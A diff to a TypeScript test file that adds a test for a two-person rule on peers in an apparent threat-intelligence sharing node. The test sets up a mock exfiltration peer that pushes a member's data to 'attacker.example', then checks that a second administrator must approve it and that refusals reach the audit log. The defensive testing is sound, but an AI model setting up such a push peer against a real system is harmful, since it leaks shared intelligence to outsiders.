@@ -16,7 +16,7 @@ import { loadConfig } from '../../config/config.js';
 import { fixedClock } from '../../core/clock.js';
 import { SYSTEM_PRINCIPAL, type Role } from '../../policy/principal.js';
 import * as audit from '../audit/audit.service.js';
-import { authenticateToken, createToken, createUser, CREDENTIAL_REQUEST_TTL_MS, principalOfUser, upsertMembers } from './directory.service.js';
+import { authenticateToken, createToken, createUser, CREDENTIAL_REQUEST_TTL_MS, principalOfUser, setPeerDisabled, upsertMembers } from './directory.service.js';
 import { TOKENS_PER_USER } from './directory.tokens.js';
 import { SUITE_LIMIT_MS } from '../../../test/support/wait.js';
 
@@ -298,6 +298,44 @@ for (const dialect of DIALECTS) {
       assert.equal((await call('PUT', '/api/v1/groups/NORDIC', tokens.root!, { members: ['FRA'] })).statusCode, 204);
       const row = await node.testStore.store.db.selectFrom('member_groups').select('description').where('name', '=', 'NORDIC').executeTakeFirstOrThrow();
       assert.equal(row.description, 'Nordic members');
+    });
+
+    it("keeps a peer a node administrator registers for a member disabled until a second one enables it: a peer reads as its members", async () => {
+      // The attack: a peer standing for FRA, pushing what FRA reads to the administrator's server.
+      const exfil = { name: 'exfil', members: ['FRA'], clearance: 3, roles: ['analyst'], url: 'https://attacker.example/taxii2/r/', direction: 'push', auth: 'none' };
+      const created = await call('POST', '/api/v1/peers', tokens.root!, exfil);
+      assert.equal(created.statusCode, 201, created.body);
+      assert.deepEqual([created.json().disabled, created.json().awaiting_approval_by], [true, ['root']]);
+      const sync = await call('POST', '/api/v1/peers/exfil/sync?direction=push', tokens.root!);
+      assert.equal(sync.statusCode, 409, sync.body);
+      assert.match(sync.json().error.message, /other than root/);
+      const own = await call('POST', '/api/v1/peers/exfil/enable', tokens.root!);
+      assert.equal(own.statusCode, 403, own.body);
+      assert.equal(own.json().error.code, 'SW_SECOND_PERSON_REQUIRED');
+      assert.equal((await call('GET', '/api/v1/peers/exfil', tokens.root!)).json().disabled, true);
+      const second = await call('POST', '/api/v1/peers/exfil/enable', tokens.root2!);
+      assert.deepEqual([second.statusCode, second.json().disabled, second.json().awaiting_approval_by], [200, false, []]);
+
+      // Changes that do not widen it keep it enabled; sending elsewhere, a higher clearance or
+      // another member disable it again until another administrator enables it.
+      const slower = await call('PATCH', '/api/v1/peers/exfil', tokens.root!, { interval_s: 600, page_timeout_s: 60 });
+      assert.deepEqual([slower.statusCode, slower.json().disabled], [200, false]);
+      const narrower = await call('PATCH', '/api/v1/peers/exfil', tokens.root!, { clearance: 1 });
+      assert.deepEqual([narrower.statusCode, narrower.json().disabled], [200, false]);
+      for (const widening of [{ url: 'https://elsewhere.example/taxii2/r/' }, { clearance: 4 }, { members: ['FRA', TEST_MEMBER] }, { roles: ['analyst', 'coordinator'] }, { certificate_cn: 'exfil-2' }]) {
+        const widened = await call('PATCH', '/api/v1/peers/exfil', tokens.root!, widening);
+        assert.deepEqual([widened.statusCode, widened.json().disabled, widened.json().awaiting_approval_by], [200, true, ['root']], JSON.stringify(widening));
+        assert.equal((await call('POST', '/api/v1/peers/exfil/enable', tokens.root!)).statusCode, 403);
+        assert.equal((await call('POST', '/api/v1/peers/exfil/enable', tokens.root2!)).statusCode, 200);
+      }
+      // Widened by both: neither enables it; the node's command line (the operator) may.
+      assert.equal((await call('PATCH', '/api/v1/peers/exfil', tokens.root!, { url: 'https://third.example/taxii2/r/' })).statusCode, 200);
+      const both = await call('PATCH', '/api/v1/peers/exfil', tokens.root2!, { url: 'https://fourth.example/taxii2/r/' });
+      assert.deepEqual(both.json().awaiting_approval_by, ['root', 'root2']);
+      for (const token of [tokens.root!, tokens.root2!]) assert.equal((await call('POST', '/api/v1/peers/exfil/enable', token)).statusCode, 403);
+      assert.equal((await setPeerDisabled(node.ctx, SYSTEM_PRINCIPAL, 'exfil', false)).disabled, false);
+      const trail = (await actions()).filter((e) => e.subject === 'exfil').map((e) => e.action);
+      assert.ok(trail.includes('directory.peer.denied'), 'the refused enabling is on the audit log');
     });
 
     it("refuses a peer whose certificate name is a user's: the user's certificate would act as the peer", async () => {
